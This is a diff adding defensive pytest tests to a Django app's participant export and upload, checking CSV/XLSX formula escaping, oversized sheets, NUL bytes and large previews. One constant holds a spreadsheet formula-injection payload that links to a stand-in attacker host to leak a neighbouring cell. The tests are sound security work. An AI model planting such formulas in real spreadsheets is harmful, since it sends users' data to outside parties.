@@ -545,3 +545,64 @@ def test_b2b_export_queries_do_not_grow_with_the_session(client, mission):
         return len(captured)
 
     assert queries(5) == queries(100) == 3
+
+
+# Hostile and large files (issue 20) --------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_buyer_named_as_a_formula_is_exported_as_text_and_reads_back_unchanged(client, mission, fmt):
+    # Names come from an outside registration form into the organisation list every mission shares.
+    buyer = OrganisationFactory(name=FORMULA, local_name="+86 buyer", country="-")
+    ParticipantFactory(session=mission["session"], organisation=buyer, contact_name="@Wang Li")
+    client.force_login(mission["staff"])
+    content = client.get(_url("b2b-export", mission, "participants", fmt)).content
+    if fmt == "csv":
+        body = content.decode("utf-8-sig")
+        assert 'buyer,"\'=HYPERLINK(""http://evil.example/' in body and ",'+86 buyer,'-," in body
+    else:
+        cells = [
+            cell for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row
+        ]
+        assert FORMULA in [cell.value for cell in cells]
+        assert "f" not in {cell.data_type for cell in cells}
+    plan = _upload(client, mission, content, name=f"export.{fmt}").context["plan"]
+    assert (plan.errors, plan.saving, len(plan.unchanged)) == ([], 0, 1)
+
+
+def test_a_second_sheet_of_a_million_cells_is_refused_at_the_column_limit(client, mission):
+    # The probe's 64 KB workbook with a million cells on its requests sheet took 92 s and was
+    # accepted. Here each request row runs on to column 60, under no column name.
+    book = openpyxl.Workbook(write_only=True)
+    book.create_sheet("participants").append(list(COLUMNS[PARTICIPANTS]))
+    requests = book.create_sheet("requests")
+    requests.append(list(COLUMNS[REQUESTS]))
+    for n in range(200):
+        requests.append(["SolarCity", f"Buyer {n:03}", "want", "", *(["x"] * 56)])
+    content = io.BytesIO()
+    book.save(content)
+    response = _upload(client, mission, content.getvalue())
+    assert response.context["form"].errors["file"] == [
+        "Sheet 'requests', line 2 has a cell in column E, but the first line names 4 columns: "
+        "that cell has no column name."
+    ]
+
+
+def test_a_nul_byte_in_a_b2b_upload_is_refused_before_the_database(client, mission):
+    content = _csv(PARTICIPANTS, [_buyer(1, contact_name="Wang\x00Li")])
+    response = _upload(client, mission, content, name="b2b.csv")
+    [message] = response.context["form"].errors["file"]
+    assert message.startswith("Line 2, column F: the cell holds a NUL character (byte 0)")
+    assert not Participant.objects.exists()
+
+
+def test_a_large_b2b_preview_names_the_kept_upload_instead_of_carrying_its_tables(client, mission, settings):
+    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 20_000
+    buyers = [_buyer(n, contact_name=f"Contact {n} " + "x" * 150) for n in range(150)]
+    preview = _upload(client, mission, _workbook([*_participants(0), *buyers], _requests(0)))
+    assert preview.context["plan"].errors == []
+    assert len(preview.context["payload"]) < 1000
+    assert _confirm(client, mission, preview).status_code == 302
+    assert Participant.objects.filter(session=mission["session"]).count() == 152
